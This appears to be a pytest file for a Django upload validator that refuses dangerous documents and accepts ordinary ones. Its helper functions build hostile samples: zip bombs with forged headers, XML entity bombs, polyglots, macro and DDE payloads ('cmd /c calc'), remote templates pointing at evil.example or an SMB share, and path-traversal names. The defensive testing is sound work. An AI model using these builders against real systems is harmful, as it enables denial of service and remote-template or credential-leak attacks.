"""What must never be stored, each class once and by name, and what must not be refused with it."""

import hashlib
import io
import random
import struct
import subprocess
import sys
import zipfile
import zlib

import docx
import openpyxl
import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from documents.models import Translation
from partners import files, office
from tests.factories import DocumentFactory
from wmaportal.local.servers import ROOT

RELS = "word/_rels/document.xml.rels"
RELATIONSHIP = (
    '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{what}" Target="{target}"{mode}/>'
)
EXTERNAL = ' TargetMode="External"'
HTML = b"<html><script>alert(1)</script></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def pdf(body: bytes = b"", trailer: bytes = b"") -> bytes:
    head = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + body
    end = b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R " + trailer + b">>\nstartxref\n"
    return head + end + b"%d\n%%%%EOF\n" % len(head)


def word() -> bytes:
    made = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Waste of mercury is kept apart.")
    document.save(made)
    return made.getvalue()


DOCX = word()


def changed(archive: bytes, parts: dict[str, bytes]) -> bytes:
    """The archive with these parts added or changed."""
    parts, made = dict(parts), io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(archive)) as old,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, parts.pop(name, None) or old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def related(what: str, target: str, mode: str = "") -> bytes:
    """A DOCX whose document has one more relationship."""
    with zipfile.ZipFile(io.BytesIO(DOCX)) as archive:
        rels = archive.read(RELS).decode()
    line = RELATIONSHIP.format(what=what, target=target, mode=mode)
    return changed(DOCX, {RELS: rels.replace("</Rel", line + "</Rel").encode()})


def odt(content: str = "", manifest: str = "") -> bytes:
    made = io.BytesIO()
    namespaces = 'xmlns:x="http://www.w3.org/1999/xlink"'
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("mimetype", office.ODT)
        archive.writestr("content.xml", f"<text {namespaces}>{content}</text>")
        archive.writestr("META-INF/manifest.xml", f"<manifest>{manifest}</manifest>")
    return made.getvalue()


def picture(kind: str, **options) -> bytes:
    made = io.BytesIO()
    Image.effect_noise((60, 40), 50).convert("RGB").save(made, kind, **options)
    return made.getvalue()


def workbook() -> bytes:
    made = io.BytesIO()
    openpyxl.Workbook().save(made)
    return made.getvalue()


def charted(inside: bytes) -> bytes:
    """A DOCX with a chart, which keeps its figures in a workbook."""
    line = RELATIONSHIP.format(what="package", target="../embeddings/figures.xlsx", mode="")
    rels = f'<Relationships xmlns="x">{line}</Relationships>'.encode()
    parts = {"word/charts/_rels/chart1.xml.rels": rels, "word/embeddings/figures.xlsx": inside}
    return changed(DOCX, parts)


def lying_bomb() -> bytes:
    """A part that claims 1,000 bytes and unpacks to 400 MB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(b" " * 2**20) for _n in range(400)) + packer.flush()
    data = bytearray(changed(DOCX, {"word/media/a.png": b" " * len(packed)}))
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive, zipfile.ZipFile(io.BytesIO(data)) as old:
        for name in old.namelist():
            archive.writestr(name, packed if name == "word/media/a.png" else old.read(name))
    data = bytearray(made.getvalue())
    local = data.find(b"word/media/a.png") - 30
    central = data.rfind(b"word/media/a.png") - 46
    for place in (local + 8, central + 10):
        data[place : place + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
    for place in (local + 22, central + 24):
        data[place : place + 4] = struct.pack("<I", 1000)
    return bytes(data)


def overlapping_bomb() -> bytes:
    """Many directory entries, all of the same packed bytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * 2**20)
        for number in range(200):
            one = zipfile.ZipInfo(f"{number}.xml")
            first = archive.infolist()[0]
            one.header_offset, one.CRC = first.header_offset, first.CRC
            one.compress_size, one.file_size = first.compress_size, first.file_size
            one.compress_type = first.compress_type
            archive.filelist.append(one)
    return made.getvalue()


def many_parts() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for number in range(office.MAX_PARTS + 1):
            archive.writestr(f"{number}.xml", "")
    return made.getvalue()


def named(name: str) -> bytes:
    return changed(DOCX, {name: b"x"})


def encrypted_part() -> bytes:
    data = bytearray(DOCX)
    place = data.find(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
JPEG, PNG = picture("JPEG"), picture("PNG")
AUTOEXEC = b"<w:p xmlns:w='w'><w:instrText>DDE cmd /c calc</w:instrText></w:p>"

#: (class, file name, content, words of the sentence)
HOSTILE = [
    ("empty", "a.pdf", b"", "empty"),
    ("too large", "a.txt", b"a" * 300_000, "limit"),
    ("unknown: program", "a.exe", b"MZ\x90\0" + b"\0" * 500, "does not know"),
    ("unknown: HTML", "a.html", HTML, "does not know"),
    ("unknown: SVG", "a.svg", b"\xef\xbb\xbf <svg onload='x()'/>", "does not know"),
    ("unknown: GIF", "a.gif", b"GIF89a" + b"\0" * 300, "does not know"),
    ("unknown: RTF", "a.txt", b"{\\rtf1 {\\object}}", "does not know"),
    ("unknown: text with NUL", "a.txt", b"abc\0def", "does not know"),
    ("unknown: Latin-1", "a.csv", "côte".encode("latin-1"), "does not know"),
    ("unknown: cut in a letter", "a.txt", "é".encode()[:1], "does not know"),
    ("unknown: plain ZIP", "a.zip", None, "archive"),
    ("wrong extension: PDF as DOCX", "a.docx", pdf(), "name ends with .docx"),
    ("wrong extension: PDF as program", "a.pdf.exe", pdf(), "name ends with .exe"),
    ("wrong extension: text as PDF", "a.pdf", b"words", "name ends with .pdf"),
    ("encrypted: Office", "a.docx", OLE, "password"),
    ("encrypted: PDF", "a.pdf", pdf(trailer=b"/Encrypt 5 0 R "), "password"),
    ("encrypted: PDF, word over blocks", "a.pdf", None, "password"),
    ("encrypted: ODT", "a.odt", odt(manifest="<encryption-data/>"), "password"),
    ("encrypted: part of a ZIP", "a.docx", encrypted_part(), "password"),
    ("macro: DOCX", "a.docx", named("word/vbaProject.bin"), "macros"),
    ("macro: XLSX", "a.xlsx", changed(workbook(), {"xl/macrosheets/s.xml": b"x"}), "macros"),
    ("macro: ODT", "a.odt", changed(odt(), {"Basic/script-lc.xml": b"<x/>"}), "macros"),
    ("macro: relationship", "a.docx", related("vbaProject", "a.bin"), "macros"),
    ("OLE object", "a.docx", related("oleObject", "embeddings/a.bin"), "embedded"),
    ("OLE object without relationship", "a.docx", changed(DOCX, {"word/a.png": OLE}), "embedded"),
    ("OLE object elsewhere", "a.docx", related("oleObject", "http://x/", EXTERNAL), "elsewhere"),
    ("embedded package", "a.docx", related("package", "embeddings/a.docx"), "embedded"),
    ("embedded archive", "a.docx", changed(DOCX, {"word/media/a.png": DOCX}), "embedded"),
    ("embedded HTML", "a.docx", related("aFChunk", "a.html"), "embedded"),
    ("ActiveX", "a.docx", related("control", "activeX/activeX1.xml"), "embedded"),
    ("DDE", "a.docx", changed(DOCX, {"word/footer1.xml": AUTOEXEC}), "embedded"),
    (
        "remote template",
        "a.docx",
        related("attachedTemplate", "https://evil.example/a.dotm", EXTERNAL),
        "elsewhere",
    ),
    (
        "remote template on a share",
        "a.docx",
        related("attachedTemplate", "file:///\\\\evil\\a.dotm", EXTERNAL),
        "elsewhere",
    ),
    ("remote frame", "a.docx", related("frame", "http://evil.example/", EXTERNAL), "elsewhere"),
    ("remote part", "a.docx", related("subDocument", "http://evil.example/", EXTERNAL), "elsewh"),
    ("linked image", "a.docx", related("image", "http://evil.example/a", EXTERNAL), "elsewhere"),
    ("linked image: ODT", "a.odt", odt('<image x:href="http://evil.example/a.png"/>'), "elsewh"),
    ("entity bomb", "a.docx", changed(DOCX, {"word/footer1.xml": ENTITIES}), "entities"),
    (
        "entity bomb in UTF-16",
        "a.docx",
        changed(DOCX, {"word/footer1.xml": ENTITIES.decode().encode("utf-16")}),
        "entities",
    ),
    (
        "entity bomb over blocks",
        "a.docx",
        changed(DOCX, {"word/footer1.xml": b"<x>" + b" " * (office.BLOCK - 5) + ENTITIES}),
        "entities",
    ),
    (
        "XML in a hidden encoding",
        "a.docx",
        changed(DOCX, {"word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?><x/>'}),
        "damaged",
    ),
    ("zip bomb: declared", "a.docx", None, "unpacks"),
    ("zip bomb: lying", "a.docx", None, "unpacks"),
    ("zip bomb: overlapping", "a.docx", overlapping_bomb(), "unpacks"),
    ("zip bomb: many parts", "a.docx", None, "parts inside"),
    ("zip bomb: nested", "a.docx", charted(charted(workbook())), "embedded"),
    ("path name in a ZIP", "a.docx", named("../../etc/passwd"), "forbidden names"),
    ("absolute name in a ZIP", "a.docx", named("/etc/passwd"), "forbidden names"),
    ("control character in a ZIP", "a.docx", named("word/a\x1b.xml"), "forbidden names"),
    ("same part twice", "a.docx", named("WORD/document.xml"), "forbidden names"),
    ("polyglot: PDF and ZIP", "a.pdf", pdf() + DOCX, "two formats"),
    ("polyglot: ZIP with PDF before", "a.pdf", pdf(body=DOCX), "two formats"),
    ("polyglot: PDF and HTML", "a.pdf", b"%PDF-1.7\n" + HTML + pdf(), "two formats"),
    ("polyglot: PDF, then HTML", "a.pdf", pdf() + HTML, "two formats"),
    ("polyglot: HTML, then PDF", "a.pdf", b"\n" + HTML + pdf(), "does not know"),
    ("polyglot: PDF in text", "a.txt", b"words " + pdf(), "two formats"),
    ("polyglot: GIF and HTML", "a.txt", b"GIF89a/*" + HTML, "does not know"),
    ("polyglot: JPEG and HTML", "a.jpg", picture("JPEG", comment=HTML), "two formats"),
    ("polyglot: JPEG and ZIP", "a.jpg", JPEG + DOCX, "two formats"),
    ("polyglot: JPEG and PDF", "a.jpg", picture("JPEG", comment=pdf()), "two formats"),
    ("polyglot: ZIP behind other data", "a.docx", DOCX[:4] + b"x" * 9 + DOCX, "other data"),
    ("polyglot: other data behind a ZIP", "a.docx", DOCX + HTML, "other data"),
    ("cut: PDF", "a.pdf", pdf(body=b"x" * 5000)[:3000], "not complete"),
    ("cut: ZIP", "a.docx", DOCX[: len(DOCX) // 2], "damaged"),
    ("cut: JPEG", "a.jpg", JPEG[: len(JPEG) // 2], "damaged"),
    ("cut: PNG", "a.png", PNG[: len(PNG) // 2], "damaged"),
    ("damaged: byte of a part", "a.docx", None, "damaged"),
    ("damaged: XML", "a.docx", changed(DOCX, {RELS: b"<Relationships><x>"}), "damaged"),
]


def made(name: str, content: bytes | None) -> bytes:
    """Those that are large are made when they are needed."""
    if content is not None:
        return content
    if name == "zip bomb: declared":
        return changed(DOCX, {"word/footer1.xml": b" " * (office.MAX_UNPACKED_BYTES + 1)})
    if name == "zip bomb: lying":
        return lying_bomb()
    if name == "zip bomb: many parts":
        return many_parts()
    if name == "unknown: plain ZIP":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("words.txt", "words")
        return out.getvalue()
    if name == "encrypted: PDF, word over blocks":
        return pdf(body=b" " * (files.BLOCK - 52) + b"/Encrypt 5 0 R" + b" " * files.BLOCK)
    if name == "damaged: byte of a part":
        data = bytearray(DOCX)
        place = data.find(b"word/document.xml") + 60
        data[place] ^= 0xFF
        return bytes(data)
    raise KeyError(name)


@pytest.fixture(autouse=True)
def _small_limit(settings):
    settings.MAX_DOCUMENT_BYTES = 2_000_000


class UploadForm(forms.Form):
    file = files.DocumentFileField()


@pytest.mark.parametrize(
    ("what", "name", "content", "words"), HOSTILE, ids=[row[0] for row in HOSTILE]
)
def test_it_is_refused_with_a_sentence(settings, what, name, content, words):
    if what == "too large":
        settings.MAX_DOCUMENT_BYTES = len(content) - 1
    form = UploadForm(files={"file": SimpleUploadedFile(name, made(what, content))})

    assert not form.is_valid()
    assert words in form.errors["file"][0]


ORDINARY = [
    ("a.pdf", pdf(), "pdf"),
    ("PDF with script and launch action", pdf(b"<< /S /JavaScript >> << /S /Launch >>"), "pdf"),
    ("a.docx", DOCX, "docx"),
    ("a.xlsx", workbook(), "xlsx"),
    ("a.odt", odt('<a x:href="https://example.org/">link</a><image x:href="Pictures/1"/>'), "odt"),
    ("link.docx", related("hyperlink", "https://example.org/", EXTERNAL), "docx"),
    ("own.docx", related("attachedTemplate", "file:///C:\\T\\a.dotm", EXTERNAL), "docx"),
    ("chart.docx", charted(workbook()), "docx"),
    ("a.csv", "\ufeffName;Pays\nAnne;Côte d’Ivoire\n".encode(), "csv"),
    ("a.txt", b"DDE and DDT are pesticides: a < b.\r\n", "txt"),
    ("a.JPG", JPEG, "jpeg"),
    ("a.png", PNG, "png"),
]


@pytest.mark.parametrize(("name", "content", "kind"), ORDINARY, ids=[row[0] for row in ORDINARY])
def test_what_people_write_is_taken(name, content, kind):
    checked = files.check_document(SimpleUploadedFile(name, content))

    assert (checked.kind, checked.size) == (kind, len(content))
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.content.read() == content


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\me\\Report.PDF", "Report.pdf"),
        ("invoice\u202efdp.exe\u202c.pdf", "invoicefdp.exe.pdf"),
        ("a\0b\nc.pdf", "abc.pdf"),
        ('<b>"x"|.pdf', "_b__x__.pdf"),
        ("…/.pdf", "document.pdf"),
        (" ..  .pdf", "document.pdf"),
        ("Bericht v1.2", "Bericht v1.2.pdf"),
        ("水銀廃棄物.pdf", "水銀廃棄物.pdf"),
        ("x" * 300 + ".pdf", "x" * files.NAME_BYTES + ".pdf"),
        ("水" * 300, "水" * (files.NAME_BYTES // 3) + ".pdf"),
    ],
)
def test_the_name_for_downloads_is_harmless(given, shown):
    assert files.safe_name(given, "pdf") == shown


CHILD = """
import pathlib, resource, sys
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import TemporaryUploadedFile
from partners import files
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for path in sorted(pathlib.Path({folder!r}).iterdir()):
    upload = TemporaryUploadedFile("a.docx", "", 0, "")
    with path.open("rb") as file:
        while block := file.read(65536):
            upload.write(block)
    upload.size = upload.tell()
    try:
        files.check_document(upload)
        said = "taken"
    except ValidationError as problem:
        said = "refused"
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(path.name, said, (peak - before) // 1024)
"""


def test_a_bomb_and_a_large_file_take_no_memory(tmp_path):
    noise = random.Random(5).randbytes
    large = changed(DOCX, {"word/media/a.bin": noise(40 * 2**20)})
    many = b"<Types>" + b"<a/>" * 6_000_000 + b"</Types>"
    types = changed(DOCX, {"[Content_Types].xml": many, "word/media/a.bin": noise(200_000)})
    for name, content in (("bomb", lying_bomb()), ("large", large), ("types", types)):
        (tmp_path / name).write_bytes(content)

    done = subprocess.run(
        [
            *(sys.executable, "manage.py", "shell", "--no-imports"),
            *("--command", CHILD.format(folder=str(tmp_path))),
        ],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        check=True,
        text=True,
    )

    lines = [line.split() for line in done.stdout.splitlines()]
    assert [line[:2] for line in lines] == [
        ["bomb", "refused"], ["large", "taken"], ["types", "refused"],
    ]  # fmt: skip
    assert int(lines[-1][2]) < 16, lines


POSTED = [row for row in HOSTILE if row[0] in {"macro: DOCX", "polyglot: PDF and ZIP", "cut: JPEG"}]
POSTED += [row for row in HOSTILE if row[0] in {"zip bomb: lying", "entity bomb", "empty"}]


@pytest.mark.django_db
@pytest.mark.parametrize(("what", "name", "content"), [row[:3] for row in POSTED])
def test_through_the_form_it_is_no_fault_and_leaves_nothing(
    client, lead, settings, tmp_path, what, name, content
):
    settings.MEDIA_ROOT = tmp_path
    address = reverse("version_add", args=[DocumentFactory(bare=True).code])
    upload = SimpleUploadedFile(name, made(what, content), content_type="application/pdf")

    response = client.post(address, {"file": upload, "language": "en", "change_note": "New."})

    assert response.status_code == 200
    assert len(response.context["form"].errors["file"]) == 1
    assert b'value="New."' in response.content or b">\nNew.</textarea>" in response.content
    assert not Translation.objects.exists()
    assert list(tmp_path.rglob("*.*")) == []
